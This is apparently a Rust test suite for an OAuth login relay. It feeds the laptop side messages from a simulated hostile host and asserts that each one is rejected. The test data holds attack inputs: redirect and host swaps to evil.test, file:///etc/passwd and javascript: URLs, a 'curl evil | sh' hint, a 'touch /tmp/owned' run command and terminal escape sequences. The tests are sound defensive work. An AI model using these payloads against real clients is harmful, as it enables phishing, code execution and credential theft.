//! A host that has turned against the laptop: whatever it asks for, nothing is opened here.

use std::{sync::Arc, time::Duration};

use hermes_errors::{Code, Explain as _};
use hermes_login::via::{
    Standing, ViaError,
    frame::{self, HostSays, LaptopSays},
};
use hermes_machine::SystemRandom;
use hermes_oauth::Client;
use hermes_providers::Flow;
use serde_json::{Value, json};
use tokio::io::{
    AsyncBufReadExt as _, AsyncWriteExt as _, BufReader, DuplexStream, Lines, ReadHalf, WriteHalf,
    duplex, split,
};
use url::Url;

use crate::{
    rig::{Rig, Told, free_port, with_param},
    via::{hello, laptop_end},
};

/// The host's side, by hand.
struct Hostile {
    id: String,
    lines: Lines<BufReader<ReadHalf<DuplexStream>>>,
    writer: WriteHalf<DuplexStream>,
}

impl Hostile {
    async fn meet(stream: DuplexStream) -> Self {
        let (reader, writer) = split(stream);
        let mut lines = BufReader::new(reader).lines();
        let line = lines.next_line().await.unwrap().unwrap();
        let (id, _) = frame::parse::<LaptopSays>(line.as_bytes(), None).unwrap();
        let mut hostile = Self { id, lines, writer };
        let hello = serde_json::to_value(HostSays::Hello(hello())).unwrap();
        hostile.says(&hello).await;
        hostile
    }

    async fn says(&mut self, body: &Value) {
        let frame = json!({"v": frame::PROTOCOL, "id": self.id, "body": body});
        // The laptop may have hung up already, as it should.
        let _ = self.writer.write_all(format!("{frame}\n").as_bytes()).await;
    }

    async fn hears(&mut self) -> Option<LaptopSays> {
        let line = self.lines.next_line().await.ok()??;
        let (_, says) = frame::parse(line.as_bytes(), Some(&self.id)).unwrap();
        Some(says)
    }

    async fn listens_at(&mut self) -> u16 {
        match self.hears().await {
            Some(LaptopSays::Listening { port }) => port,
            other => panic!("{other:?}"),
        }
    }
}

async fn rig(provider: &str) -> Rig {
    let mut rig = Rig::new(provider).await.at_port(free_port());
    rig.ports.random = Arc::new(SystemRandom);
    rig
}

/// What an honest host of this rig would ask to have opened.
async fn honest(rig: &Rig, redirect_uri: &Url) -> Url {
    let registration = &rig.request.registration;
    let client = Client::resolve(&rig.request.provider, registration, rig.ports.clone());
    client
        .await
        .unwrap()
        .begin(redirect_uri)
        .unwrap()
        .authorize_url
}

fn preferred(rig: &Rig) -> Value {
    let loopback = rig.request.provider.loopback.as_ref().unwrap();
    json!({"listen": {
        "host": loopback.host,
        "port": loopback.port,
        "any_port": loopback.any_port,
        "path": loopback.path,
    }})
}

/// Runs the laptop against a host that says all this and then waits.
async fn against(rig: &Rig, host: impl AsyncFnOnce(&mut Hostile)) -> ViaError {
    let (laptop_stream, host_stream) = duplex(64 * 1024);
    let laptop = async {
        let (reader, writer) = split(laptop_stream);
        laptop_end(rig, reader, writer).await
    };
    let host = async {
        let mut hostile = Hostile::meet(host_stream).await;
        host(&mut hostile).await;
        while hostile.hears().await.is_some() {}
    };
    let (signed, ()) = tokio::join!(laptop, host);
    signed.unwrap_err()
}

fn nothing_happened(rig: &Rig, what: &str) {
    assert!(
        rig.opener.opened().is_empty(),
        "{what}: the browser was opened"
    );
    let shown = |told: &Told| matches!(told, Told::Url(_) | Told::Device(_));
    assert!(
        !rig.actor.told().iter().any(shown),
        "{what}: an address was shown"
    );
    let port = rig
        .request
        .provider
        .loopback
        .as_ref()
        .map(|loopback| loopback.port);
    for port in port.into_iter().chain([80, 8080]) {
        assert!(!answers(port), "{what}: {port}: somebody listens");
    }
}

/// Whether anybody listens at this port. To listen there oneself would be in the way of other tests that
/// look at the same time.
fn answers(port: u16) -> bool {
    let met = std::net::TcpStream::connect(("127.0.0.1", port));
    // A port that nobody listens at may meet itself, if it is the one that the asker has got.
    met.is_ok_and(|met| met.local_addr().ok() != met.peer_addr().ok())
}

type Change = (&'static str, fn(&Url) -> String);

/// What a hostile host makes of the honest URL.
const CHANGES: &[Change] = &[
    ("another host", |url| {
        replaced(url, |url| url.set_host(Some("evil.test")).unwrap())
    }),
    ("the host as a label of another", |url| {
        let host = format!("{}.evil.test", url.host_str().unwrap());
        replaced(url, |url| url.set_host(Some(&host)).unwrap())
    }),
    ("a trailing dot", |url| {
        replaced(url, |url| url.set_host(Some("auth.x.ai.")).unwrap())
    }),
    ("another port", |url| {
        replaced(url, |url| url.set_port(Some(4444)).unwrap())
    }),
    ("user information", |url| {
        replaced(url, |url| url.set_username("x.ai").unwrap())
    }),
    ("a password", |url| {
        replaced(url, |url| url.set_password(Some("x.ai")).unwrap())
    }),
    ("another scheme", |url| {
        url.as_str().replacen("http", "ftp", 1)
    }),
    ("a file", |_| "file:///etc/passwd".to_owned()),
    ("a script", |_| "javascript:alert(1)".to_owned()),
    ("data", |_| "data:text/html,hello".to_owned()),
    ("a share", |_| "file://evil.test/share".to_owned()),
    ("another path", |url| {
        replaced(url, |url| url.set_path("/redirect"))
    }),
    ("the path and more", |url| {
        let path = format!("{}/../logout", url.path());
        replaced(url, |url| url.set_path(&path))
    }),
    ("a fragment", |url| {
        replaced(url, |url| url.set_fragment(Some("x")))
    }),
    ("no query", |url| replaced(url, |url| url.set_query(None))),
    ("the implicit flow", |url| {
        changed(url, "response_type", "token")
    }),
    ("both flows", |url| {
        changed(url, "response_type", "code token")
    }),
    ("another client", |url| {
        changed(url, "client_id", "evil-app")
    }),
    ("another redirect", |url| {
        changed(url, "redirect_uri", "https://evil.test/")
    }),
    ("another port in the redirect", |url| {
        changed(url, "redirect_uri", "http://127.0.0.1:1/callback")
    }),
    ("more scope", |url| {
        changed(url, "scope", "openid everything")
    }),
    ("plain challenges", |url| {
        changed(url, "code_challenge_method", "plain")
    }),
    ("no challenge", |url| {
        with_param(url, "code_challenge", None).into()
    }),
    ("an empty challenge", |url| {
        changed(url, "code_challenge", "")
    }),
    ("no state", |url| with_param(url, "state", None).into()),
    ("a short state", |url| changed(url, "state", "abc")),
    ("a state with line ends", |url| {
        changed(url, "state", &"a\n".repeat(22))
    }),
    ("a second client", |url| format!("{url}&client_id=evil-app")),
    ("a second redirect", |url| {
        format!("{url}&redirect_uri=https%3A%2F%2Fevil.test%2F")
    }),
    ("a request object", |url| {
        format!("{url}&request_uri=https%3A%2F%2Fevil.test%2F")
    }),
    ("another prompt", |url| format!("{url}&prompt=none")),
    ("the answer by form", |url| {
        format!("{url}&response_mode=form_post")
    }),
    ("parameters in another order", |url| {
        let query = url.query().unwrap();
        let (first, rest) = query.split_once('&').unwrap();
        replaced(url, |url| url.set_query(Some(&format!("{rest}&{first}"))))
    }),
];

fn replaced(url: &Url, change: impl FnOnce(&mut Url)) -> String {
    let mut url = url.clone();
    change(&mut url);
    url.into()
}

/// One parameter with another value, in its place.
fn changed(url: &Url, name: &str, value: &str) -> String {
    let pairs: Vec<(String, String)> = url.query_pairs().into_owned().collect();
    replaced(url, |url| {
        let mut query = url.query_pairs_mut();
        query.clear();
        for (found, old) in &pairs {
            query.append_pair(found, if found == name { value } else { old });
        }
    })
}

#[tokio::test]
async fn rl2_no_url_but_our_own_is_opened() {
    assert!(CHANGES.len() >= 30);
    for (what, change) in CHANGES {
        let rig = rig("xai-oauth").await;
        let error = against(&rig, async |host: &mut Hostile| {
            host.says(&preferred(&rig)).await;
            let port = host.listens_at().await;
            let redirect_uri = format!("http://127.0.0.1:{port}/callback");
            let url = honest(&rig, &Url::parse(&redirect_uri).unwrap()).await;
            let url = change(&url);
            let open = json!({"open": {
                "authorize_url": url, "redirect_uri": redirect_uri, "seconds": 60,
            }});
            host.says(&open).await;
        })
        .await;
        assert_eq!(error.code(), Code::ViaUntrusted, "{what}: {error}");
        nothing_happened(&rig, what);
    }
}

#[tokio::test]
async fn rl6_no_word_of_the_host_becomes_an_address_to_listen_on() {
    let rig = rig("xai-oauth").await;
    let port = rig.request.provider.loopback.as_ref().unwrap().port;
    let listen = |host: &str, port: u32, any: bool, path: &str| json!({"listen": {"host": host, "port": port, "any_port": any, "path": path}});
    let own = u32::from(port);
    for wish in [
        listen("0.0.0.0", own, true, "/callback"),
        listen("::", own, true, "/callback"),
        listen("10.0.0.1", own, true, "/callback"),
        listen("localhost", own, true, "/callback"),
        listen("127.0.0.1", 22, true, "/callback"),
        listen("127.0.0.1", 80, true, "/callback"),
        listen("127.0.0.1", 8080, true, "/callback"),
        listen("127.0.0.1", 0, true, "/callback"),
        listen("127.0.0.1", own, false, "/callback"),
        listen("127.0.0.1", own, true, "/"),
        listen("127.0.0.1", own, true, "/../etc/passwd"),
        listen("127.0.0.1", 65536, true, "/callback"),
    ] {
        let error = against(&rig, async |host: &mut Hostile| host.says(&wish).await).await;
        assert!(
            matches!(error.code(), Code::ViaUntrusted | Code::ViaFrameInvalid),
            "{wish}: {error}"
        );
        nothing_happened(&rig, &wish.to_string());
    }
}

#[tokio::test]
async fn rl6_ports_of_the_system_are_never_opened() {
    let mut rig = rig("xai-oauth").await;
    rig.request.port = Some(1023);
    let error = against(&rig, async |host: &mut Hostile| {
        host.says(&preferred(&rig)).await;
    })
    .await;
    assert_eq!(error.code(), Code::ViaUntrusted, "{error}");
    nothing_happened(&rig, "1023");
}

#[tokio::test]
async fn rl2_messages_out_of_turn_end_it() {
    for message in [
        json!({"open": {
            "authorize_url": "https://auth.x.ai/", "redirect_uri": "http://127.0.0.1:1/", "seconds": 1,
        }}),
        json!({"again": {}}),
        json!({"hello": {"hermes": "", "user": "", "host": "", "home": ""}}),
        json!({"run": "touch /tmp/owned"}),
        json!({"line": {"text": "x"}}),
        json!({"error": {"code": "no.such_code", "message": "", "hint": ""}}),
        json!({"signed_in": {
            "provider": "x", "already": false, "file": "", "remarks": [], "credential": {"a": ["b"]},
        }}),
    ] {
        let rig = rig("xai-oauth").await;
        let error = against(&rig, async |host: &mut Hostile| host.says(&message).await).await;
        assert_eq!(error.code(), Code::ViaFrameInvalid, "{message}: {error}");
        nothing_happened(&rig, &message.to_string());
    }
}

#[tokio::test]
async fn rl2_pages_for_codes_are_the_providers_own() {
    for page in [
        "https://evil.test/device",
        "http://10.0.0.1/device",
        "javascript:alert(1)",
        "https://user@evil.test/",
        "file:///etc/passwd",
    ] {
        let device = |plain: &str, complete: Option<&str>| {
            json!({"device": {
                "user_code": "ABCD-EFGH", "verification_uri": plain,
                "verification_uri_complete": complete, "expires_in": 300, "interval": 5,
            }})
        };
        let rig = rig("nous").await;
        let good = rig.fake.url("/device").to_string();
        for message in [device(page, None), device(&good, Some(page))] {
            let error = against(&rig, async |host: &mut Hostile| host.says(&message).await).await;
            assert_eq!(error.code(), Code::ViaUntrusted, "{message}: {error}");
            nothing_happened(&rig, page);
        }
    }
}

#[tokio::test]
async fn rl2_another_flow_than_was_asked_for_is_not_taken() {
    let rig = rig("xai-oauth").await.by(Flow::Device);
    let error = against(&rig, async |host: &mut Hostile| {
        host.says(&preferred(&rig)).await;
    })
    .await;
    assert_eq!(error.code(), Code::ViaUntrusted);
    nothing_happened(&rig, "loopback");

    let rig = self::rig("anthropic").await;
    let code = json!({"device": {
        "user_code": "A", "verification_uri": "https://claude.ai/", "verification_uri_complete": null,
        "expires_in": 300, "interval": 5,
    }});
    let error = against(&rig, async |host: &mut Hostile| host.says(&code).await).await;
    assert_eq!(error.code(), Code::ViaUntrusted);
    nothing_happened(&rig, "device");

    let address = json!({"address": {
        "authorize_url": "https://claude.ai/oauth/authorize?code=true",
        "redirect_uri": "https://evil.test/callback",
    }});
    let error = against(&rig, async |host: &mut Hostile| host.says(&address).await).await;
    assert_eq!(error.code(), Code::ViaUntrusted);
    nothing_happened(&rig, "paste");
}

#[tokio::test]
async fn pc10_the_hosts_words_cannot_move_the_cursor() {
    let rig = rig("xai-oauth").await;
    let error = against(&rig, async |host: &mut Hostile| {
        host.says(&json!({"rung": {"flow": "loopback", "why": "\u{1b}[2J\u{202e}x"}}))
            .await;
        host.says(&json!({"stray": {"what": "\u{1b}]8;;http://evil.test\u{7}y"}}))
            .await;
        host.says(&json!({"error": {
            "code": "auth.denied", "message": "\u{1b}[31mno\r\nerror[x]", "hint": "curl evil | sh",
        }}))
        .await;
    })
    .await;
    assert_eq!(error.code(), Code::Denied);
    assert_eq!(error.to_string(), "[31mno error[x]");
    assert_eq!(error.next_step(), None);
    let told = format!("{:?}", rig.actor.told());
    assert!(
        !told.contains("\\u{1b}") && !told.contains("\\u{202e}"),
        "{told}"
    );
}

#[tokio::test]
async fn rl5_a_host_that_falls_silent_is_given_up() {
    let rig = rig("xai-oauth").await;
    let silent = async |_: &mut Hostile| {
        rig.laptop_clock.until_sleeping(1).await;
        rig.laptop_clock.advance(Duration::from_secs(120));
    };
    let error = against(&rig, silent).await;
    let standing = Standing::NotSaved;
    assert!(
        matches!(error, ViaError::Lost { standing: said } if said == standing),
        "{error:?}"
    );

    // With a wait of its own announced, it has that much longer, and may have saved something.
    let rig = self::rig("xai-oauth").await.by(Flow::Device);
    let code = json!({"device": {
        "user_code": "ABCD-EFGH",
        "verification_uri": rig.fake.url("/device"),
        "verification_uri_complete": null,
        "expires_in": 900,
        "interval": 5,
    }});
    let silent = async |host: &mut Hostile| {
        host.says(&code).await;
        host.says(&json!({"waiting": {"flow": "device", "seconds": 900}}))
            .await;
        rig.actor.waiting().await;
        rig.laptop_clock.advance(Duration::from_secs(900));
        assert!(rig.laptop_clock.sleepers() > 0, "it still waits");
        rig.laptop_clock.advance(Duration::from_secs(120));
    };
    let error = against(&rig, silent).await;
    let standing = Standing::Unknown;
    assert!(
        matches!(error, ViaError::Lost { standing: said } if said == standing),
        "{error:?}"
    );
}
